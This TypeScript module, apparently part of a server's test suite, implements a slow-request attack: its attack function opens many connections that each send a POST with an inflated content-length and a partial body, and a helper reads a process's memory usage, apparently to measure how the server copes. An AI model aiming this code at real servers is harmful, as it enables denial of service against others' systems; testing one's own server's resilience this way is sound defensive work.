import { readFileSync } from 'node:fs'
import { connect, type Socket } from 'node:net'
import type { Program } from '../processes/program.ts'

/** What an attacker sends on every connection before it goes silent. */
export type Unfinished = {
  path: string
  headers?: Record<string, string>
  declared: number
  begin?: string
  sent: number
}

const CHUNK = Buffer.alloc(16 * 1024, 'a')

function sendBody(socket: Socket, bytes: number) {
  for (let left = bytes; left > 0; left -= CHUNK.length) socket.write(CHUNK.subarray(0, left))
}

function beginRequest(origin: string, { path, headers = {}, declared, begin = '', sent }: Unfinished) {
  const { hostname, port, host } = new URL(origin)
  const socket = connect(Number(port), hostname)
  const lines = Object.entries({ host, 'content-length': `${declared}`, ...headers })
  socket.write(
    `POST ${path} HTTP/1.1\r\n${lines.map((line) => line.join(': ')).join('\r\n')}\r\n\r\n${begin}`,
  )
  sendBody(socket, sent)
  let status = ''
  socket.on('data', (chunk: Buffer) => {
    status ||= chunk.toString('latin1').slice(9, 12)
  })
  socket.on('error', () => undefined)
  return new Promise<string>((resolve) => {
    socket.once('close', () => resolve(status || 'no answer'))
  })
}

/** Opens so many connections that each begin a request and never end it. Resolves, once all are closed, to what was answered. */
export async function attack(
  origin: string,
  { connections, ...unfinished }: Unfinished & { connections: number },
): Promise<Map<string, number>> {
  const all = Array.from({ length: connections }, () => beginRequest(origin, unfinished))
  const counts = new Map<string, number>()
  for (const status of await Promise.all(all)) counts.set(status, (counts.get(status) ?? 0) + 1)
  return counts
}

/** Memory that a process holds right now, in MB. */
export const memoryOf = (program: Program): number =>
  Number(/VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${program.pid()}/status`, 'utf8'))?.[1]) / 1024
